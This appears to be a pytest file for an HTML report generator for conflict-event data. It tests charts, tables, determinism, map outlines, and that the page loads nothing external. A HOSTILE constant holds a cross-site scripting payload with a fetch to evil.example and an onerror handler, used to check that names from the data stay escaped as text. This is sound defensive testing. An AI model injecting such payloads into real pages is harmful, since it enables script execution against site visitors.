"""The page as a file: what it says, what it does not let through, and that nothing in it leads outside."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from datetime import date, timedelta
from pathlib import Path
from unittest import mock

import pyarrow as pa
import pytest
from lxml import html

from eventcoder.errors import EventcoderError
from eventcoder.reportpage import Subject, report_page
from eventcoder.reportpage.borders import WORLD, countries, features
from eventcoder.reportpage.map import view
from eventcoder.reportpage.questions import Spot
from tests.report.invented import FIRST, event, read, several, table

TOP = Path(__file__).resolve().parents[2]
HOSTILE = "</script><script>fetch('https://evil.example')</script><img src=x onerror='alert(1)'>\"&'"
TURNED = "Na\u202eme\x07 \u05d0\u05d1"
ABOUT = Subject("Weir Valley events", "2026.11.0", "Okafor (2026): Weir Valley events, version 2026.11.0.", "2026-11-02T09:00:00Z", "CC-BY-4.0")


@pytest.fixture(scope="module")
def page() -> str:
    return report_page(ABOUT, several(60), coverage=read(("Iran", None, FIRST, FIRST + timedelta(days=200))))


def cells(page: str, caption: str) -> list[list[str]]:
    """The rows of the table with this caption, as texts."""
    (found,) = html.fromstring(page).xpath("//table[caption[starts-with(., $caption)]]", caption=caption)
    return [[" ".join(c.text_content().split()) for c in row.xpath("./th|./td")] for row in found.xpath(".//tbody/tr")]


def test_the_head_says_what_to_cite_and_how_fresh_it_is(page: str) -> None:
    text = " ".join(html.fromstring(page).text_content().split())
    assert ABOUT.citation in text
    assert "Version 2026.11.0" in text
    assert "Read through2026-09-23" in text
    assert "Last act2026-11-02" in text


def test_every_chart_says_what_it_shows_and_has_a_table(page: str) -> None:
    tree = html.fromstring(page)
    charts = tree.xpath("//figure//svg[@role]")
    assert len(charts) == 7  # the map once, three charts wide and narrow
    assert all(len(chart.get("aria-label")) > 20 for chart in charts)
    assert {t.split(":")[0] for t in tree.xpath("//details/summary/text()")} == {"Table"}
    ours = r"\d{4}-\d\d-\d\d: .+|(?:Battles|Violence against civilians): [\d,]+.*|(?:Shiraz|Kano|Santiago): \d+ events?.*"
    assert all(re.fullmatch(ours, said) for said in tree.xpath("//figure//title/text()"))  # the library's own words depend on the time zone
    weeks = cells(page, "Events and deaths a week")
    assert sum(int(row[1].replace(",", "")) for row in weeks) == 60
    titles = tree.xpath("//svg[contains(@class, 'wide')][contains(@aria-label, 'by type, 2026')]//title/text()")
    assert sum(int(t.split(": ")[1].split(" ")[0]) for t in titles) == 60


def test_a_missing_count_is_blank_and_a_zero_is_zero() -> None:
    rows = table(event(1), event(2, country="Chile", fatalities=0, fatalities_low=0, fatalities_high=0))
    found = {row[0]: row for row in cells(report_page(ABOUT, rows), "All countries")}
    assert found["Iran"][3] == ""
    assert found["Chile"][3] == "0"
    silent = report_page(ABOUT, table(event(1)))
    assert "People reported killednot reported1 event without a word" in " ".join(html.fromstring(silent).text_content().split())


def test_the_map_of_a_small_area_names_its_largest_places() -> None:
    rows = [event(n, location=f"Town {n % 3}", latitude=30 + n % 3, longitude=52.0 + n % 3) for n in range(7)]
    names = html.fromstring(report_page(ABOUT, table(*rows))).xpath("//svg[@class='map']//text/text()")
    assert sorted(names) == ["Town 0", "Town 1", "Town 2"]


def test_coverage_shows_zero_where_somebody_read(page: str) -> None:
    rows = {row[0]: row[1:] for row in cells(page, "Events by country and week")}
    assert "0" in rows["Iran"]
    assert "0" not in rows["Chile"]
    assert "Nobody recorded" in report_page(ABOUT, several(3))


def test_nothing_leads_outside_and_nothing_runs(page: str) -> None:
    tree = html.fromstring(page)
    assert not tree.xpath("//script|//iframe|//img|//link|//object|//embed|//form|//base|//*[@onclick or @onload or @onerror]")
    assert {a.get("href")[0] for a in tree.xpath("//*[@href]")} == {"#"}
    assert not re.search(r"(?:https?:)?//[a-z]", re.sub(r"<text[^>]*>[^<]*</text>", "", page))
    assert "url(" not in page.replace("url(#", "")
    assert "default-src 'none'" in tree.xpath("string(//meta[@http-equiv]/@content)")


def test_names_from_the_data_stay_text() -> None:
    rows = table(
        event(1, location=HOSTILE, actor1=HOSTILE, event_type=HOSTILE, sub_event_type=HOSTILE, country=HOSTILE, admin1=TURNED),
        event(2, location=TURNED, actor1=TURNED, event_type=TURNED, event_date=FIRST + timedelta(days=40), fatalities=3, latitude=32.6),
    )
    about = Subject(HOSTILE, "1", citation=HOSTILE, query=HOSTILE, warnings=(HOSTILE,), licence=HOSTILE)
    validation = {"valid": True, "counts": {"error": 0}, "remaining": [{"code": "x", "severity": "warning", "problems": 1, "example": HOSTILE}]}
    made = report_page(about, rows, coverage=read((HOSTILE, None, FIRST, FIRST + timedelta(days=20))), validation=validation)
    tree = html.fromstring(made)
    assert not tree.xpath("//script|//img|//*[@onerror]")
    assert "<script" not in made
    assert "\u202e" not in made
    assert "\x07" not in made
    assert HOSTILE in tree.text_content()  # and is shown as it is
    assert "\\u202e" in tree.text_content()


def test_ids_are_each_used_once(page: str) -> None:
    ids = html.fromstring(page).xpath("//@id")
    assert len(ids) == len(set(ids))
    assert set(re.findall(r"url\(#([\w-]+)\)", page)) <= set(ids)


@pytest.mark.parametrize("n", [0, 1, 2])
def test_few_events_make_a_page_too(n: int) -> None:
    made = report_page(ABOUT, several(n))
    assert ("There are no events" in made) is (n == 0)
    assert ("<figure" in made) is (n > 0)


def test_the_same_events_give_the_same_bytes_in_whatever_order_threads_come() -> None:
    rows = pa.concat_tables([several(3000)] * 3)
    made = {report_page(ABOUT, rows) for _ in range(2)}
    made.add(report_page(ABOUT, rows.combine_chunks()))
    assert len(made) == 1


@pytest.mark.slow
def test_neither_the_time_zone_nor_the_language_of_the_machine_changes_a_byte() -> None:
    code = "from tests.report.test_page import *; import hashlib; print(hashlib.sha256(report_page(ABOUT, several(200)).encode()).hexdigest())"
    places = ({"TZ": "America/Los_Angeles", "LANG": "C"}, {"TZ": "Asia/Tokyo", "LANG": "tr_TR.UTF-8", "PYTHONHASHSEED": "7"})
    made = {subprocess.run([sys.executable, "-c", code], env={**os.environ, **p}, capture_output=True, check=True, cwd=TOP).stdout for p in places}
    assert len(made) == 1


def test_long_names_are_whole_on_a_phone() -> None:
    names = ("Explosions/Remote violence", "Violence against civilians", "Battles")
    made = html.fromstring(report_page(ABOUT, table(*(event(n, event_type=kind, fatalities=5) for n, kind in enumerate(names)))))
    words = made.xpath("//svg[contains(@class, 'narrow')][contains(@aria-label, 'by event type')]//text()")
    assert {"Explosions/", "Remote violence", "Violence against", "civilians", "Battles"} <= set(words)
    assert not any("…" in word for word in words)


def test_a_query_says_that_it_is_one() -> None:
    made = report_page(Subject("T", "1", query="country Iran"), several(3), condition="country = 'Iran'")
    assert "does not show the whole: country Iran" in made
    none = report_page(Subject("T", "1", query="country Mali"), several(3), condition="country = 'Mali'")
    assert "No event answers this query" in none
    said = "of the whole version, not of the events on this page"
    assert said in report_page(Subject("T", "1", query="country Mali"), several(0), validation={"counts": {}})
    assert said not in report_page(Subject("T", "1"), several(0), validation={"counts": {}})


def test_without_the_drawing_libraries_it_says_what_to_install() -> None:
    with mock.patch.dict(sys.modules, {"vl_convert": None}), pytest.raises(EventcoderError, match=r"report\.html cannot be drawn.*install it again"):
        report_page(ABOUT, several(1))


class TestOutlines:
    @pytest.mark.parametrize("fine", [False, True])
    def test_rings_are_closed_and_on_the_globe(self, fine: bool) -> None:
        known = countries(fine)
        assert len(known) >= 177
        for _, polygons in known:
            for polygon in polygons:
                for ring in polygon:
                    assert ring[0] == ring[-1]
                    assert all(-180 <= x <= 180 and -90 <= y <= 90 for x, y in ring)

    def test_only_what_is_near_is_drawn(self) -> None:
        assert len(features((44.0, 25.0, 63.0, 40.0), fine=True)) < 60 < len(features(WORLD, fine=False))

    def test_the_view_is_the_world_where_events_lie_far_apart(self) -> None:
        here, there = Spot("a", 35.0, 51.0, 1, 1), Spot("b", -33.0, -70.0, 1, 1)
        assert view([here, there]) is WORLD
        west, south, east, north = view([here])
        assert west < 51 < east
        assert south < 35 < north


def test_a_span_of_centuries_is_told_in_years() -> None:
    made = report_page(ABOUT, table(event(1, event_date=date(1900, 1, 1)), event(2)))
    assert len(made.encode()) < 2_000_000
    assert "Events a year" in made
